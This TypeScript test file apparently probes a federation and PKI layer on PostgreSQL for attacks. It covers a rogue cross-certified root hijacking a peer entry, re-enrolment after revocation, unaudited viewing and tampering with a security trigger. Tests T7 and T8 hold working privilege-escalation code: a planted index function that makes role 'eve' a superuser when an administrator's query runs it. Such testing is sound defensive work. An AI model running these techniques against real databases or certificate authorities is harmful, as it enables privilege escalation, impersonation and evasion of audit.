import { randomBytes, createHash } from "node:crypto";
import { afterAll, beforeAll, expect, test } from "vitest";
import { openTestDatabase } from "../harness/database.ts";
import type { TestDatabase } from "../harness/database.ts";
import { activeGrant, asRole, createGrant, recordCertificate, seedPeople, seedRows, asPeer } from "./actors.ts";
import { redeem } from "./tokens.ts";
import { refusal, list } from "./verbs.ts";
import { storePeer } from "../../src/client/store-peer.ts";
import { createCsr } from "../../src/pki/csr.ts";
import { derToPem, pemToDer, readX509 } from "../../src/pki/der.ts";
import { createEmbeddedAuthority, createRoot, crossCertify } from "../../src/pki/embedded-authority.ts";
import { signCertificate } from "../../src/pki/certificate.ts";
import { generateKeyPair } from "../../src/pki/keys.ts";
import { verifyIssued, fingerprintOf } from "../../src/pki/verify.ts";

let database: TestDatabase;
const SCOPE = { resources: ["tasks"], include_personal: true };
beforeAll(async () => {
  database = await openTestDatabase();
  const client = await database.pool.connect();
  await client.query("begin");
  await seedPeople(client, { olga: [], mia: [] });
  await seedRows(client, "tasks", [{ owner: "olga", team: null }]);
  await client.query("commit");
  client.release();
});
afterAll(() => database.close());

test("T1 hijack of a peer's host by a gateway that has a grant there", async () => {
  const ARC = "1.3.6.1.4.1.32473.1";
  const honest = createRoot({ commonName: "b root", lifetimeDays: 365 });
  const b = createEmbeddedAuthority({ ...honest, oidArc: ARC, crlUrl: "https://b.example/crl" });
  const evil = createRoot({ commonName: "h root", lifetimeDays: 365 });
  const keyring = { current: "k1", keys: new Map([["k1", randomBytes(32)]]) } as never;
  const identity = (grantId: string) => ({ grantId, subjectUserId: "x", host: "b.example" });
  const enroll = async (root: Buffer, grantId: string, chainDer: Buffer[], url: string) => {
    const key = generateKeyPair();
    const csrPem = createCsr({ privateKeyPem: key.privateKeyPem, commonName: "mosaic peer" });
    // what B answers, to whoever has a token: the honest peer, or H who relays the CSR with a token of its own.
    const issued = await b.issueClientCertificate({ csrPem, identity: identity(grantId), lifetimeSeconds: 3600 });
    const said = verifyIssued({
      certificatePem: issued.certificatePem, chainPem: chainDer.map((d) => derToPem(d, "CERTIFICATE")),
      rootsPem: [derToPem(root, "CERTIFICATE")], privateKeyPem: key.privateKeyPem, oidArc: ARC,
    });
    return { host: said.host, federationUrl: url, publicUrl: url, grantId: said.grantId, subjectUserId: said.subjectUserId, rootDer: root,
      chainDer: [pemToDer(issued.certificatePem, "CERTIFICATE", "CERTIFICATE_INVALID"), ...chainDer], serial: said.serial, notAfter: said.notAfter, privateKeyDer: key.privateKeyDer };
  };
  await database.transaction(async (client) => {
    await storePeer(client, keyring, "olga", await enroll(honest.certificateDer, "00000000-0000-4000-8000-000000000001", [], "https://b.example"));
    // H has B's name and public key from /root.pem, and certifies it by its own root.
    const bridge = signCertificate(
      { commonName: "b root", publicKeyDer: readX509(honest.certificateDer, "CERTIFICATE_INVALID").publicKey.export({ type: "spki", format: "der" }),
        notBefore: new Date(Date.now() - 60000), notAfter: new Date(Date.now() + 8640000), usage: "authority" } as never,
      { nameDer: (await import("../../src/pki/certificate.ts")).subjectNameOf(evil.certificateDer), publicKeyDer: readX509(evil.certificateDer, "CERTIFICATE_INVALID").publicKey.export({ type: "spki", format: "der" }), privateKeyDer: evil.privateKeyDer });
    await storePeer(client, keyring, "olga", await enroll(evil.certificateDer, "00000000-0000-4000-8000-000000000002", [bridge], "https://h.example"));
    const { rows } = await client.query("select host, federation_url, state, grant_id, encode(sha256(root_certificate_der),'hex') = $1 as evil_root from federation.federation_peers where owner_user_id='olga'", [fingerprintOf(evil.certificateDer)]);
    console.log("T1", rows);
  });
});

test("T3 enroll again after certificate revoke", async () => {
  await database.transaction(async (client) => {
    const { id, token } = await createGrant(client, "olga", SCOPE);
    await redeem(client, token);
    const serial = await recordCertificate(client, id);
    await asRole(client, "federation_gateway", () => client.query("select federation.allow_enrollment_again($1,$2)", [token, "again"]));
    await asRole(client, "federation_admin", () => client.query("select federation.revoke_certificate($1,'keyCompromise')", [serial]));
    await redeem(client, "again");
    const next = await recordCertificate(client, id);
    const rows = await asPeer(client, { id, subject: "olga", token, serial: next }, () => list(client, "tasks", { first: 5 }));
    console.log("T3 rows after keyCompromise by the same key:", rows.rows.length);
  });
});

test("T4 look without audit row", async () => {
  const client = await database.pool.connect();
  await client.query("begin");
  const grant = await activeGrant(client, "olga", SCOPE);
  await client.query("commit");
  const count = async () => (await client.query("select count(*)::int n from federation.federation_audit_log where verb like 'grant.%ed' and verb in ('grant.viewed','grant.explained')")).rows[0].n;
  const before = await count();
  await client.query("begin; set local role federation_admin");
  const seen = (await client.query("select federation.visible($1, null, 5) v", [grant.id])).rows[0].v;
  await client.query("rollback");
  console.log("T4 samples", JSON.stringify(seen.resources.find((r: any) => r.resource === "tasks").samples).slice(0, 120), "audit rows", before, await count());
  client.release();
});

test("T6 same-named trigger", async () => {
  await database.transaction(async (client) => {
    const gaps = async () => (await client.query("select * from federation.identity_gaps()")).rows;
    await client.query(`create function app.noop() returns trigger language plpgsql as 'begin return null; end';
      drop trigger _900_federation_users_deleted on app.users;
      create trigger _900_federation_users_deleted after delete on app.users for each row execute function app.noop();`);
    console.log("T6 not always", await gaps(), await refusal(client.query("savepoint a; select federation.rebind_identity()")).catch((e) => e.code));
  });
  await database.transaction(async (client) => {
    await client.query(`create function app.noop() returns trigger language plpgsql as 'begin return null; end';
      drop trigger _900_federation_users_deleted on app.users;
      create trigger _900_federation_users_deleted after delete on app.users for each row execute function app.noop();
      alter table app.users enable always trigger _900_federation_users_deleted`);
    const grant = await activeGrant(client, "mia", SCOPE);
    console.log("T6 gaps", (await client.query("select * from federation.identity_gaps()")).rows);
    await client.query("delete from app.users where id='mia'");
    console.log("T6 grant", (await client.query("select status from federation.federation_grants where id=$1", [grant.id])).rows);
  });
});

test("T7 planner runs the table owner's code as the administrator", async () => {
  const client = await database.pool.connect();
  await client.query("begin");
  const me = (await client.query("select current_user u, rolsuper from pg_roles where rolname = current_user")).rows[0];
  await client.query(`create role eve; create schema eves authorization eve; create table eves.seen (who text);
    alter table eves.seen owner to eve; grant all on eves.seen to public; grant usage on schema eves to public; alter table app.tasks owner to eve; grant usage, create on schema app to eve`);
  await client.query(`set local role eve`);
  await client.query(`create function eves.vol() returns int language plpgsql volatile as $$ begin
       if exists (select from pg_roles where rolname = current_user and rolsuper) then execute 'alter role eve superuser'; end if;
       begin insert into eves.seen values (current_user); exception when others then null; end; return 1; end $$;
    create function eves.imm(int) returns text language plpgsql immutable as $$ begin return eves.vol()::text; end $$;
    create index on app.tasks ((eves.imm(1) || title))`);
  await client.query("reset role; delete from eves.seen");
  const grant = await activeGrant(client, "olga", SCOPE);
  const id = (await client.query("select id from app.tasks limit 1")).rows[0].id; // superuser of the test touches it, too
  await client.query("delete from eves.seen; alter role eve nosuperuser; set local role eve; create index eix2 on app.tasks ((eves.imm(2) || title)); reset role; delete from eves.seen");
  await client.query("select federation.read_as_caller('tasks',$1)", [id]);
  console.log("T7 read_as_caller", (await client.query("select distinct who from eves.seen")).rows);
  await client.query("select federation.explain($1,'tasks',$2)", [grant.id, id]);
  console.log("T7 as", me, (await client.query("select distinct who from eves.seen")).rows, (await client.query("select rolsuper from pg_roles where rolname='eve'")).rows);
  await client.query("rollback");
  client.release();
});
test("T8 owner of the users table, by each request of a peer", async () => {
  const client = await database.pool.connect();
  await client.query("begin");
  const grant = await activeGrant(client, "olga", SCOPE);
  await client.query(`create role eve; create schema eves authorization eve; create table eves.seen (who text);
    grant all on eves.seen to public; grant usage on schema eves to public; alter table app.users owner to eve; grant usage, create on schema app to eve; set local role eve;
    create function eves.vol() returns int language plpgsql volatile as $$ begin insert into eves.seen values (current_user); return 1; end $$;
    create function eves.imm(int) returns text language plpgsql immutable as $$ begin return eves.vol()::text; end $$;
    create index on app.users ((eves.imm(1) || name))`);
  await client.query("reset role; delete from eves.seen");
  await client.query("set local role federation_gateway");
  await client.query("select federation.enter_as_peer($1,$2,$3)", [grant.id, "olga", grant.serial]);
  await client.query("reset role");
  console.log("T8", (await client.query("select distinct who from eves.seen")).rows);
  await client.query("rollback");
  client.release();
});
